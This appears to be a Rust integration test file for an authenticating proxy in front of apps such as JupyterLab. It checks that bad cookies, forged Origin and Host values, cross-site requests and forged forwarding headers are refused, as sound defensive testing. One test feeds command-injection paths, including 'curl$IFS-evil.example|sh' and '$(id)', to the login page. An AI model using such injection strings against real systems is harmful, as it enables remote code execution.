//! Who is let in: every wrong credential, for requests and for upgrades, and the app sees nothing.

use bytes::Bytes;
use http::{Method, StatusCode};
use station_tests::http::{Client, Upgraded};
use station_tests::standin;
use station_tests::station::{App, Station};

/// A way to come that must not lead in.
struct Wrong {
    name: &'static str,
    client: Client,
    method: Method,
    headers: Vec<(&'static str, &'static str)>,
    status: &'static [u16],
}

async fn every_wrong_way(station: &Station) -> Vec<Wrong> {
    let plain =
        |client| Wrong { name: "", client, method: Method::GET, headers: vec![], status: &[401] };
    let mut ways = Vec::new();

    let client = station.client().await.unwrap();
    ways.push(Wrong { name: "no cookie", ..plain(client) });

    let client = station.login().await.unwrap();
    for name in client.cookies().into_keys() {
        client.set_cookie(&name, &"B".repeat(43));
    }
    ways.push(Wrong { name: "a wrong cookie", ..plain(client) });

    let client = station.login().await.unwrap();
    let twice = plain(client);
    let (name, value) = twice.client.cookies().pop_first().unwrap();
    twice.client.set_cookie(&name, &format!("x; {name}={value}"));
    ways.push(Wrong { name: "the cookie twice", status: &[400, 401, 403], ..twice });

    let client = station.login().await.unwrap();
    client.post("/logout", &serde_json::Value::Null).await.unwrap();
    let gone = station.client().await.unwrap();
    for (name, value) in client.cookies() {
        gone.set_cookie(&name, &value);
    }
    ways.push(Wrong { name: "after logging out", ..plain(gone) });

    let client = station.client().await.unwrap();
    let headers = vec![("authorization", "Bearer AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")];
    ways.push(Wrong { name: "an unknown bearer", headers, ..plain(client) });

    let mut client = station.login().await.unwrap();
    client.host = "evil.example".to_owned();
    ways.push(Wrong { name: "a wrong Host", status: &[421], ..plain(client) });

    let mut client = station.login().await.unwrap();
    client.origin = Some("https://evil.example".to_owned());
    let method = Method::POST;
    ways.push(Wrong { name: "a foreign Origin", method, status: &[403], ..plain(client) });

    let mut client = station.login().await.unwrap();
    client.origin = Some("null".to_owned());
    let method = Method::POST;
    ways.push(Wrong { name: "the Origin null", method, status: &[403], ..plain(client) });
    ways
}

#[tokio::test]
async fn nothing_wrong_reaches_the_app_by_request_or_upgrade() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    for way in every_wrong_way(&station).await {
        let path = "/apps/jupyterlab/head";
        let body = Bytes::from_static(b"x=1");
        let answer = way.client.call(way.method.clone(), path, &way.headers, body).await.unwrap();
        let status = answer.status.as_u16();
        assert!(way.status.contains(&status), "{}: {status} {}", way.name, answer.text());
        match way.client.websocket("/apps/jupyterlab/echo", &way.headers).await.unwrap() {
            Upgraded::Open(_) => panic!("{}: the upgrade went through", way.name),
            Upgraded::Refused(answer) => {
                assert!(answer.status.is_client_error(), "{}: {answer:?}", way.name);
            }
        }
        match way.client.websocket("/v1/events", &way.headers).await.unwrap() {
            Upgraded::Open(_) => panic!("{}: the event stream opened", way.name),
            Upgraded::Refused(_) => {}
        }
    }
    assert_eq!(standin::seen(station.folder()).unwrap(), []);
    // The same paths do lead there with the right credential: the test is able to fail.
    let client = station.login().await.unwrap();
    client.get("/apps/jupyterlab/head").await.unwrap().expect(200).unwrap();
    client.open_websocket("/apps/jupyterlab/echo").await.unwrap();
    assert_eq!(standin::seen(station.folder()).unwrap().len(), 2);
}

#[tokio::test]
async fn a_websocket_without_origin_needs_more_than_a_cookie() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    let mut client = station.login().await.unwrap();
    client.origin = None;
    match client.websocket("/apps/jupyterlab/echo", &[]).await.unwrap() {
        Upgraded::Open(_) => panic!("the upgrade went through"),
        Upgraded::Refused(answer) => assert_eq!(answer.status, StatusCode::FORBIDDEN),
    }
    assert_eq!(standin::seen(station.folder()).unwrap(), []);
}

#[tokio::test]
async fn pages_sent_by_another_site_are_refused_where_they_could_do_harm() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    let mut client = station.login().await.unwrap();
    client.origin = None;
    let cross = [("sec-fetch-site", "cross-site")];
    let path = "/apps/jupyterlab/head";
    let post = client.call(Method::POST, path, &cross, Bytes::new()).await.unwrap();
    assert_eq!(post.status, StatusCode::FORBIDDEN);
    assert_eq!(standin::seen(station.folder()).unwrap(), []);
    // A link on another site may lead here.
    let link = [
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-mode", "navigate"),
        ("sec-fetch-dest", "document"),
    ];
    client.call(Method::GET, path, &link, Bytes::new()).await.unwrap().expect(200).unwrap();
}

#[tokio::test]
async fn a_page_of_another_port_cannot_load_an_app_or_use_up_a_link() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    let mut client = station.login().await.unwrap();
    client.origin = None;
    let image = [
        ("sec-fetch-site", "same-site"),
        ("sec-fetch-mode", "no-cors"),
        ("sec-fetch-dest", "image"),
    ];
    let path = "/apps/jupyterlab/head";
    client.call(Method::GET, path, &image, Bytes::new()).await.unwrap().expect(403).unwrap();
    assert_eq!(standin::seen(station.folder()).unwrap(), []);
    let link = station.login_path("/").await.unwrap();
    let other = station.client().await.unwrap();
    other.call(Method::GET, &link, &image, Bytes::new()).await.unwrap().expect(403).unwrap();
    let opened = [
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-mode", "navigate"),
        ("sec-fetch-dest", "document"),
    ];
    other.call(Method::GET, &link, &opened, Bytes::new()).await.unwrap().expect(303).unwrap();
}

#[tokio::test]
async fn the_login_page_puts_no_text_of_a_link_into_the_command() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    let client = station.client().await.unwrap();
    for path in ["/apps/x;curl$IFS-evil.example|sh/", "/apps/nothing/", "/apps/$(id)/lab"] {
        let page = client.page(path).await.unwrap().expect(401).unwrap();
        let command = "<pre class=\"command\">stationctl login</pre>";
        assert!(page.text().contains(command), "{path}: {}", page.text());
    }
    let page = client.page("/apps/jupyterlab/").await.unwrap().expect(401).unwrap();
    assert!(page.text().contains("stationctl login --app jupyterlab"), "{}", page.text());
}

#[tokio::test]
async fn our_secrets_do_not_reach_the_app_and_its_own_cookies_do() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    let client = station.login().await.unwrap();
    let ours = client.cookies();
    client.set_cookie("theirs", "kept");
    let forged = [
        ("x-forwarded-for", "6.6.6.6"),
        ("x-forwarded-proto", "gopher"),
        ("x-hop", "1"),
        ("connection", "x-hop"),
    ];
    let path = "/apps/jupyterlab/head?a=%2F&b=//;c";
    client.call(Method::GET, path, &forged, Bytes::new()).await.unwrap().expect(200).unwrap();
    let seen = standin::seen(station.folder()).unwrap();
    assert_eq!(seen[0].target, path);
    assert_eq!(seen[0].header("cookie"), Some("theirs=kept"));
    assert_eq!(seen[0].header("host"), Some(client.host.as_str()));
    assert_eq!(seen[0].header("x-hop"), None);
    assert_eq!(seen[0].header("x-forwarded-proto"), Some("http"));
    assert!(!seen[0].header("x-forwarded-for").unwrap().contains("6.6.6.6"));
    let text = format!("{seen:?}");
    for (name, value) in ours {
        assert!(!text.contains(&name) && !text.contains(&value), "{text}");
    }
}

#[tokio::test]
async fn a_refused_page_says_what_to_do_and_a_program_gets_a_problem() {
    let station = Station::with_app(App::StandIn).await.unwrap();
    let mut client = station.client().await.unwrap();
    let page = client.page("/apps/jupyterlab/lab").await.unwrap().expect(401).unwrap();
    assert!(page.text().contains("stationctl login --app jupyterlab"), "{}", page.text());
    assert!(page.header("content-security-policy").contains("frame-ancestors"));
    let problem = client.get("/apps/jupyterlab/api/contents").await.unwrap().expect(401).unwrap();
    assert_eq!(problem.header("content-type"), "application/problem+json");
    assert!(problem.json().unwrap()["detail"].as_str().unwrap().contains("stationctl login"));
    client.host = "evil.example:80".to_owned();
    let wrong = client.page("/").await.unwrap().expect(421).unwrap();
    assert!(wrong.text().contains("hosts"), "{}", wrong.text());
}

#[tokio::test]
async fn a_browser_session_may_not_make_links_or_end_the_station() {
    let station = Station::start(App::None, "app = []").await.unwrap();
    let client = station.login().await.unwrap();
    let body = serde_json::json!({"next": "/"});
    client.post("/v1/login-links", &body).await.unwrap().expect(403).unwrap();
    let down = client.post("/v1/down", &serde_json::Value::Null).await.unwrap();
    assert!(down.status.is_client_error(), "{down:?}");
    client.page("/").await.unwrap().expect(200).unwrap();
}

#[tokio::test]
async fn with_tls_the_cookie_is_bound_to_the_host_and_websockets_pass() {
    let station = Station::start(App::StandIn, "[listen]\ntls = \"self-signed\"\n").await.unwrap();
    station.app_in(station_proto::app::AppPhase::Ready).await.unwrap();
    let client = station.login().await.unwrap();
    let names: Vec<String> = client.cookies().into_keys().collect();
    assert!(names[0].starts_with("__Host-"), "{names:?}");
    client.get("/apps/jupyterlab/head").await.unwrap().expect(200).unwrap();
    client.open_websocket("/apps/jupyterlab/echo").await.unwrap();
    let seen = standin::seen(station.folder()).unwrap();
    assert_eq!(seen[0].header("x-forwarded-proto"), Some("https"));
    assert_eq!(seen.len(), 2);
    assert!(station.log().contains("fingerprint"), "{}", station.log());
}

#[tokio::test]
async fn an_app_behind_someone_elses_tls_hears_the_scheme_of_the_public_url() {
    let more = "[listen]\npublic_url = \"https://vm7.example\"\n";
    let mut station = Station::prepare(App::StandIn, more).unwrap();
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = free.local_addr().unwrap().to_string();
    drop(free);
    station.environment.push(("STATIOND_LISTEN".to_owned(), address.clone()));
    station.launch().await.unwrap();
    station.app_in(station_proto::app::AppPhase::Ready).await.unwrap();
    let mut client = Client::new(&format!("http://{address}")).unwrap();
    station.log_in(&client).await.unwrap();
    client.get("/apps/jupyterlab/head").await.unwrap().expect(200).unwrap();
    client.host = "vm7.example".to_owned();
    client.get("/apps/jupyterlab/head").await.unwrap().expect(200).unwrap();
    let seen = standin::seen(station.folder()).unwrap();
    assert_eq!(seen[0].header("x-forwarded-proto"), Some("http"), "by way of localhost");
    assert_eq!(seen[1].header("x-forwarded-proto"), Some("https"));
    assert_eq!(seen[1].header("x-forwarded-port"), Some("443"));
}
